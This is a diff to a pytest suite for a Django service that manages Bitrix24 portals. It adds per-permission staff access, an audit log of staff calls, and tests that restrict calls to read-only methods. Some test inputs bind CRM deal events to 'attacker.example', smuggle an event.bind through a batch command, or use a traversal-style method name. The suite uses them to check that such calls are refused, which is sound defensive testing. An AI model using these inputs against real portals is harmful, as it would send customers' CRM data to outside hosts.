@@ -22,6 +22,7 @@ from portals.models import (
     PairState,
     RenewalOutcome,
     RenewalTrigger,
+    StaffCall,
     TokenPair,
     WantedAction,
     WantedKind,
@@ -55,10 +56,26 @@ class Api:
         return self.http.post(self.url + path, timeout=30, allow_redirects=False, **kwargs)
 
 
+SUPPORT = ("view_portal", "renew_portal", "call_portal", "call_any_method")
+
+
+def _grant(user, *codenames: str) -> None:
+    from django.contrib.auth.models import Permission
+
+    user.user_permissions.add(
+        *Permission.objects.filter(content_type__app_label="portals", codename__in=codenames)
+    )
+
+
+def _api_for(backend, user) -> Api:
+    return Api(backend.url, {"Authorization": f"Token {Token.objects.create(user=user).key}"})
+
+
 @pytest.fixture
 def staff(backend, staff_user) -> Api:
-    token = Token.objects.create(user=staff_user)
-    return Api(backend.url, {"Authorization": f"Token {token.key}"})
+    """A support engineer: staff with every permission of the staff API."""
+    _grant(staff_user, *SUPPORT)
+    return _api_for(backend, staff_user)
 
 
 def _frame(backend, b24, token: str, member_id: str | None = None) -> Api:
@@ -95,7 +112,7 @@ def test_staff_endpoints_refuse_anonymous_and_non_staff_users(backend, installed
 
 
 def test_staff_session_works_and_unsafe_methods_need_the_csrf_token(backend, installed_portal):
-    UserFactory(username="admin", staff=True)  # password pw-admin
+    _grant(UserFactory(username="admin", staff=True), *SUPPORT)  # password pw-admin
     browser = requests.Session()
     login = backend.url + "/admin/login/"
     browser.get(login, timeout=10)
@@ -175,6 +192,7 @@ def test_portal_list_shows_token_health_and_filters(backend, staff, settings):
 
 def test_portal_list_costs_the_same_queries_for_three_portals_or_thirty(staff_user):
     client = APIClient()
+    _grant(staff_user, "view_portal")
     client.force_authenticate(staff_user)
 
     def add(n: int) -> None:
@@ -190,6 +208,7 @@ def test_portal_list_costs_the_same_queries_for_three_portals_or_thirty(staff_us
         return len(captured)
 
     add(3)
+    queries()  # the user's permissions are read once and kept on the user
     few = queries()
     add(27)
     assert queries() == few <= 3
@@ -563,3 +582,125 @@ def test_schema_driven_fuzz_finds_no_server_error(backend, b24, installed_portal
     assert as_staff["statuses"][200] > 0 and as_frontend["statuses"][200] > 0
     # Frontend credentials open the frontend endpoints and nothing else.
     assert as_frontend["statuses"][401] > 0
+
+
+# --- staff by permission -----------------------------------------------------------------------------
+
+
+def test_staff_without_permissions_are_refused_everything(backend, installed_portal, staff_user):
+    """Being staff lets a user into the admin; what they may do there and here is what they were granted."""
+    nobody = _api_for(backend, staff_user)
+    member = installed_portal.member_id
+    for answer in (
+        nobody.get("/api/portals/"),
+        nobody.get(f"/api/portals/{member}/"),
+        nobody.get("/api/health/"),
+        nobody.post(f"/api/portals/{member}/renew/"),
+        nobody.post(f"/api/portals/{member}/call/", json={"method": "profile"}),
+    ):
+        _is_error(answer, 403, "permission_denied")
+    assert not WantedAction.objects.exists() and not StaffCall.objects.exists()
+
+
+def test_view_renew_and_call_are_separate_permissions(backend, installed_portal, b24):
+    member = installed_portal.member_id
+    viewer, renewer, caller = (UserFactory(staff=True) for _ in range(3))
+    _grant(viewer, "view_portal")
+    _grant(renewer, "renew_portal")
+    _grant(caller, "call_portal")
+    viewer_api, renewer_api, caller_api = (_api_for(backend, user) for user in (viewer, renewer, caller))
+
+    assert viewer_api.get(f"/api/portals/{member}/").status_code == 200
+    _is_error(viewer_api.post(f"/api/portals/{member}/renew/"), 403, "permission_denied")
+    _is_error(viewer_api.post(f"/api/portals/{member}/call/", json={"method": "profile"}), 403)
+
+    assert renewer_api.post(f"/api/portals/{member}/renew/").status_code == 202
+    _is_error(renewer_api.get("/api/portals/"), 403, "permission_denied")
+
+    assert caller_api.post(f"/api/portals/{member}/call/", json={"method": "profile"}).status_code == 200
+    _is_error(caller_api.post(f"/api/portals/{member}/renew/"), 403, "permission_denied")
+
+
+@pytest.mark.parametrize(
+    "method, params",
+    [
+        ("event.bind", {"event": "ONCRMDEALADD", "handler": "https://attacker.example/hook"}),
+        ("crm.deal.add", {"fields": {"TITLE": "x"}}),
+        ("CRM.DEAL.DELETE", {"id": 1}),
+        (
+            "batch",
+            {"cmd": {"a": "crm.deal.list", "b": "event.bind?event=ONCRMDEALADD&handler=https://x.example/"}},
+        ),
+        ("batch", {"cmd": ["crm.deal.get?id=1", "crm.deal.update?id=1&fields[TITLE]=x"]}),
+        ("batch", {"cmd": "crm.deal.list"}),
+    ],
+)
+def test_call_lets_through_read_methods_only_unless_the_user_may_call_any(
+    backend, installed_portal, b24, method, params
+):
+    """Before, any staff user could bind the portal's events to an outside URL with its background pair."""
+    member = installed_portal.member_id
+    caller, trusted = UserFactory(staff=True), UserFactory(staff=True)
+    _grant(caller, "call_portal")
+    _grant(trusted, "call_portal", "call_any_method")
+    b24.seed("crm.deal", 1)
+    bound = len(b24.events)
+
+    refused = _is_error(
+        _api_for(backend, caller).post(
+            f"/api/portals/{member}/call/", json={"method": method, "params": params}
+        ),
+        403,
+        "method_not_allowed",
+    )
+    assert "needs the permission to call any method" in refused["error_description"]
+    assert len(b24.events) == bound and not [c for c in b24.calls if c[1].lower() == method.lower()]
+
+    allowed = _api_for(backend, trusted).post(
+        f"/api/portals/{member}/call/", json={"method": method, "params": params}
+    )
+    assert allowed.status_code != 403, allowed.text  # Bitrix24's own answer, whatever it is
+    audit = list(StaffCall.objects.order_by("pk").values_list("username", "method", "allowed"))
+    assert audit == [(caller.username, method, False), (trusted.username, method, True)]
+
+
+@pytest.mark.parametrize(
+    "method, params",
+    [
+        ("crm.deal.list", {}),
+        ("CRM.DEAL.GET", {"id": 1}),
+        ("event.get", {}),
+        ("profile", {}),
+        ("app.info", {}),
+        ("batch", {"cmd": {"deals": "crm.deal.list", "me": "profile", "one": "crm.deal.get?id=1"}}),
+    ],
+)
+def test_read_methods_pass_and_every_call_is_audited(backend, installed_portal, b24, method, params):
+    caller = UserFactory(staff=True)
+    _grant(caller, "call_portal")
+    b24.seed("crm.deal", 1)
+    answer = _api_for(backend, caller).post(
+        f"/api/portals/{installed_portal.member_id}/call/", json={"method": method, "params": params}
+    )
+    assert answer.status_code == 200, answer.text
+    call = StaffCall.objects.get()
+    assert (call.user, call.portal_id, call.method, call.allowed) == (
+        caller,
+        installed_portal.pk,
+        method,
+        True,
+    )
+    if method == "batch":
+        assert call.commands == "crm.deal.list,profile,crm.deal.get"
+
+
+def test_which_methods_are_read_methods():
+    from portals.operations import batch_commands, is_read_method
+
+    reads = ["crm.deal.fields", "CRM.Deal.List", "user.get", "profile", "APP.INFO", " crm.deal.get "]
+    writes = ["crm.deal.add", "event.bind", "batch", "crm.deal.get/../delete", "placement.bind", "", "getter"]
+    assert [is_read_method(m) for m in reads] == [True] * len(reads)
+    assert [is_read_method(m) for m in writes] == [False] * len(writes)
+    assert batch_commands({"cmd": {"a": "crm.deal.get?id=1", "b": "profile"}}) == ["crm.deal.get", "profile"]
+    assert batch_commands({"cmd": [{"method": "x"}]}) is None
+    assert batch_commands({"cmd": "crm.deal.list"}) is None
